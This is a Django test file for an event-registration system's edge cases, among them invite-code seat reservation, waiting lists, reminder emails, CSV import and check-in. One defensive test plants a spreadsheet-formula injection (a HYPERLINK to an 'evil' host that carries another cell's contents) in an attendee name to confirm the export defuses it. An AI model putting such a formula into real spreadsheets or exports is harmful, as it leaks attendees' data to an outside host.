"""Edge cases found in review: each one a way to let too many people in, lose an email, or answer 500."""

import csv
import datetime as dt
import io

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation

from events import services
from events.models import EventStatus, InviteCode, Registration, TicketTier, TierVisibility
from events.tasks import send_event_reminders
from tests.factories import (
    CityTeamMemberFactory,
    EventFactory,
    TicketTierFactory,
    UpcomingEventFactory,
    UserFactory,
    attendee,
)
from tests.support.imports import bring_file
from tests.support.mail import REFUSED

pytestmark = pytest.mark.django_db


def admin_client(user) -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(user)
    return client


def new_code(event, tier, *, max_uses: int) -> dict:
    """The admin's form for a speaker code that reserves its seats."""
    return {
        "event": event.pk,
        "tier": tier.pk,
        "channel": "speaker",
        "label": "嘉宾",
        "max_uses": max_uses,
        "expires_at_0": "",
        "expires_at_1": "",
        "reserves_seats": "on",
    }


def test_an_invite_code_added_in_the_admin_cannot_reserve_more_seats_than_are_free():
    event = EventFactory(capacity=2, venue__capacity=100)
    tier = TicketTierFactory(event=event, quota=2)
    organizer = CityTeamMemberFactory(tour=event.tour, city=event.city).user
    response = admin_client(organizer).post(
        reverse("admin:events_invitecode_add"),
        new_code(event, tier, max_uses=50),
    )
    assert response.status_code == 200
    assert response.context["adminform"].form.errors["max_uses"] == [
        "Not enough free seats to reserve 50: 2 of 2 are free."
    ]
    assert InviteCode.objects.count() == 0


def test_an_invite_code_added_in_the_admin_goes_through_the_service():
    event = EventFactory(capacity=10, venue__capacity=100)
    tier = TicketTierFactory(event=event, quota=10)
    organizer = CityTeamMemberFactory(tour=event.tour, city=event.city).user
    response = admin_client(organizer).post(
        reverse("admin:events_invitecode_add"),
        new_code(event, tier, max_uses=3),
    )
    assert response.status_code == 302
    code = InviteCode.objects.get()
    assert (code.max_uses, code.reserves_seats, len(code.code)) == (3, True, 8)
    # The code is made as it is saved, so the page that adds it shows none (it would not be the one saved).
    add_form = admin_client(organizer).get(reverse("admin:events_invitecode_add")).context["adminform"].form
    assert "code" not in add_form.fields and "code" not in add_form.base_fields
    change = admin_client(organizer).get(reverse("admin:events_invitecode_change", args=[code.pk]))
    assert set(change.context["adminform"].form.fields) == {"channel", "label", "expires_at"}


def test_seats_taken_between_the_form_check_and_the_save_bring_the_form_back():
    event = UpcomingEventFactory(capacity=3, venue__capacity=100)
    tier = TicketTierFactory(event=event, quota=3)
    organizer = CityTeamMemberFactory(tour=event.tour, city=event.city).user
    counts = []

    def the_public_takes_the_seats(execute, sql, params, many, context):
        # The second reading of the seats is the save's own, under the event's lock: just before it, three
        # people register (as on another connection a moment earlier).
        if "reserved_for_codes" in sql:
            counts.append(sql)
            if len(counts) == 2:
                for _ in range(3):
                    services.register_attendee(event=event, tier=tier, details=attendee())
        return execute(sql, params, many, context)

    with connection.execute_wrapper(the_public_takes_the_seats):
        response = admin_client(organizer).post(
            reverse("admin:events_invitecode_add"),
            new_code(event, tier, max_uses=2),
        )
    assert response.status_code == 200
    assert response.context["adminform"].form.non_field_errors() == [
        "Not enough free seats to reserve 2: 0 of 3 are free."
    ]
    assert InviteCode.objects.count() == 0


def test_the_tier_choices_of_an_invite_code_stay_within_the_organizers_events():
    event = EventFactory()
    mine = TicketTierFactory(event=event)
    TicketTierFactory(event=EventFactory())
    organizer = CityTeamMemberFactory(tour=event.tour, city=event.city).user
    form = admin_client(organizer).get(reverse("admin:events_invitecode_add")).context["adminform"].form
    assert list(form.fields["tier"].queryset) == [mine]


def test_a_raised_quota_in_the_admin_seats_the_waiting_list_before_newcomers():
    event = UpcomingEventFactory(capacity=100, venue__capacity=100)
    tier = TicketTierFactory(event=event, quota=1)
    services.register_attendee(event=event, tier=tier, details=attendee())
    waiting = services.register_attendee(event=event, tier=tier, details=attendee(), join_waitlist=True)
    tier.quota = 2
    tier.save()  # as the tier inline does
    with translation.override("en"), pytest.raises(services.RegistrationError) as caught:
        services.register_attendee(event=event, tier=tier, details=attendee())
    waiting.refresh_from_db()
    assert waiting.status == "confirmed"  # promoted first …
    assert caught.value.code == "sold_out"  # … so the newcomer finds the tier full again
    assert Registration.objects.filter(tier=tier, status="confirmed").count() == 2


def test_seats_freed_beyond_the_waiting_list_go_to_the_newcomer_once_those_waiting_are_seated():
    event = UpcomingEventFactory(capacity=100, venue__capacity=100)
    tier = TicketTierFactory(event=event, quota=1)
    services.register_attendee(event=event, tier=tier, details=attendee())
    waiting = services.register_attendee(event=event, tier=tier, details=attendee(), join_waitlist=True)
    TicketTier.objects.filter(pk=tier.pk).update(quota=3)  # raised without a promotion
    newcomer = services.register_attendee(event=event, tier=tier, details=attendee())
    waiting.refresh_from_db()
    assert (waiting.status, newcomer.status) == ("confirmed", "confirmed")
    assert waiting.created_at < newcomer.created_at
    assert Registration.objects.filter(tier=tier, status="confirmed").count() == 3


def test_newcomers_do_not_jump_the_queue():
    event = UpcomingEventFactory(capacity=100, venue__capacity=100)
    tier = TicketTierFactory(event=event, quota=1)
    first = services.register_attendee(event=event, tier=tier, details=attendee())
    waiting = services.register_attendee(event=event, tier=tier, details=attendee(), join_waitlist=True)
    Registration.objects.filter(pk=first.pk).update(status="cancelled")  # a seat frees without a promotion
    with pytest.raises(services.RegistrationError):
        services.register_attendee(event=event, tier=tier, details=attendee())
    waiting.refresh_from_db()
    assert waiting.status == "confirmed"


def test_an_invite_code_alone_registers_for_its_tier():
    event = UpcomingEventFactory()
    vip = TicketTierFactory(event=event, visibility=TierVisibility.INVITE_ONLY, name="VIP")
    [code] = services.create_invite_codes(event=event, tier=vip, channel="sponsor", count=1)
    user = UserFactory()
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(user)
    response = client.post(
        reverse("events:register", args=[event.tour.slug, event.slug]),
        {
            "invite_code": code.code,
            "name": "王芳",
            "phone": "13800000000",
            "privacy": "on",
        },
    )
    assert response.status_code == 302, response.context["form"].errors
    assert Registration.objects.get(user=user).tier == vip


def test_a_cancelled_event_sends_no_reminder():
    event = EventFactory(start=timezone.localtime() + dt.timedelta(days=1))
    event.end = event.start + dt.timedelta(hours=2)
    event.save()
    services.register_attendee(event=event, tier=TicketTierFactory(event=event), details=attendee())
    event.status = EventStatus.CANCELLED
    event.save()
    mail.outbox.clear()
    assert send_event_reminders() == 0 and mail.outbox == []


def test_one_refused_reminder_does_not_stop_the_others(settings):
    settings.EMAIL_BACKEND = "tests.support.mail.RefusingBackend"
    event = EventFactory(start=timezone.localtime() + dt.timedelta(days=1))
    event.end = event.start + dt.timedelta(hours=2)
    event.save()
    tier = TicketTierFactory(event=event)
    refused = services.register_attendee(event=event, tier=tier, details=attendee(email=REFUSED))
    services.register_attendee(event=event, tier=tier, details=attendee(email="fine@example.org"))
    mail.outbox.clear()
    assert send_event_reminders() == 2  # queued, one task each
    assert [m.to for m in mail.outbox] == [["fine@example.org"]]
    refused.refresh_from_db()
    assert refused.reminder_sent_at is None  # given back: the next run tries again
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"  # the server accepts again
    assert send_event_reminders() == 1
    assert [m.to for m in mail.outbox] == [["fine@example.org"], [REFUSED]]
    assert send_event_reminders() == 0


def test_a_failed_ticket_says_so_and_the_email_still_goes(settings, django_capture_on_commit_callbacks):
    settings.CITYTOUR_CJK_FONT = "/nonexistent/font.ttc"
    event = EventFactory()
    user = UserFactory()
    with django_capture_on_commit_callbacks(execute=True):
        registration = services.register_attendee(
            event=event, tier=TicketTierFactory(event=event), user=user, details=attendee(email=user.email)
        )
    registration.refresh_from_db()
    assert registration.ticket_state == "failed"
    assert [m.to for m in mail.outbox] == [[user.email]]
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(user)
    html = client.get(reverse("events:my_tickets")).content.decode()
    assert "We could not prepare your ticket" in html and 'http-equiv="refresh"' not in html
    assert Registration.objects.get(pk=registration.pk).ticket_state == "failed"  # not retried on every view


def upload(content: str) -> SimpleUploadedFile:
    return SimpleUploadedFile("list.csv", content.encode("utf-8"), content_type="text/csv")


def test_csv_rows_with_extra_cells_or_nul_characters_are_reported_not_500():
    event = EventFactory()
    TicketTierFactory(event=event)
    organizer = CityTeamMemberFactory(tour=event.tour, city=event.city).user
    response = bring_file(
        admin_client(organizer),
        event,
        {
            "file": upload("name,email\n张三,a@example.org,extra\n李四\x00,b@example.org\n"),
        },
    )
    assert response.context["job"].state == "failed"
    assert [(e.line, e.message) for e in response.context["errors"]] == [
        (2, "This row has more cells than the header.")
    ]
    assert Registration.objects.count() == 0


def test_the_export_defuses_spreadsheet_formulas():
    event = EventFactory()
    tier = TicketTierFactory(event=event)
    services.register_attendee(event=event, tier=tier, details=attendee('=HYPERLINK("http://evil/?"&A2,"x")'))
    organizer = CityTeamMemberFactory(tour=event.tour, city=event.city).user
    text = (
        b"".join(admin_client(organizer).get(reverse("admin:events_event_export", args=[event.pk])).streaming_content)
        .decode()
        .lstrip("\ufeff")
    )
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[1] == '\'=HYPERLINK("http://evil/?"&A2,"x")'


def test_nul_characters_at_the_door_answer_unknown_not_500():
    event = EventFactory()
    helper = CityTeamMemberFactory(tour=event.tour, city=event.city).user
    client = admin_client(helper)
    scan = client.post(reverse("events:checkin_scan", args=[event.tour.slug, event.slug]), {"code": "AB\x00CD"})
    assert scan.status_code == 200 and scan.json()["ok"] is False
    search = client.get(reverse("events:checkin_search", args=[event.tour.slug, event.slug]), {"q": "张\x00"})
    assert search.status_code == 200


def test_a_cancelled_ticket_cannot_be_checked_in_and_a_used_one_cannot_be_cancelled():
    event = EventFactory()
    tier = TicketTierFactory(event=event)
    used = services.register_attendee(event=event, tier=tier, details=attendee())
    services.check_in(event=event, value=used.ticket_code, by=None)
    with pytest.raises(services.RegistrationError):
        services.cancel_registration(registration=used)
    assert Registration.objects.get(pk=used.pk).status == "confirmed"
    gone = services.register_attendee(event=event, tier=tier, details=attendee())
    services.cancel_registration(registration=gone)
    assert services.check_in(event=event, value=gone.ticket_code, by=None).ok is False
    assert Registration.objects.get(pk=gone.pk).checked_in_at is None


def test_an_expired_reserving_code_extended_in_the_admin_cannot_take_seats_the_public_took():
    event = EventFactory(capacity=4, venue__capacity=100)
    tier = TicketTierFactory(event=event, quota=10)
    [code] = services.create_invite_codes(
        event=event, tier=tier, channel="speaker", count=1, max_uses=2, reserves_seats=True
    )
    InviteCode.objects.filter(pk=code.pk).update(expires_at=timezone.now() - dt.timedelta(minutes=1))
    for _ in range(3):
        services.register_attendee(event=event, tier=tier, details=attendee())  # its seats went to the public
    organizer = CityTeamMemberFactory(tour=event.tour, city=event.city).user
    later = timezone.localtime() + dt.timedelta(days=3)
    change = reverse("admin:events_invitecode_change", args=[code.pk])
    data = {"channel": "speaker", "label": "嘉宾", "expires_at_0": f"{later:%Y-%m-%d}", "expires_at_1": "12:00:00"}
    response = admin_client(organizer).post(change, data)
    assert response.status_code == 200
    assert response.context["adminform"].form.errors["expires_at"] == [
        "Not enough free seats to reserve 2: 1 of 4 are free."
    ]
    code.refresh_from_db()
    assert code.expires_at < timezone.now() and code.label == ""
    # One seat back: now the code can hold its two again.
    services.cancel_registration(registration=event.registrations.first())
    assert admin_client(organizer).post(change, data).status_code == 302
    code.refresh_from_db()
    assert (code.label, timezone.localtime(code.expires_at).date()) == ("嘉宾", later.date())
    for _ in range(2):
        services.register_attendee(event=event, tier=tier, details=attendee(), invite_code=code.code)
    with pytest.raises(services.RegistrationError) as caught:
        services.register_attendee(event=event, tier=tier, details=attendee())
    assert caught.value.code == "capacity"
    assert event.registrations.filter(status="confirmed").count() == 4
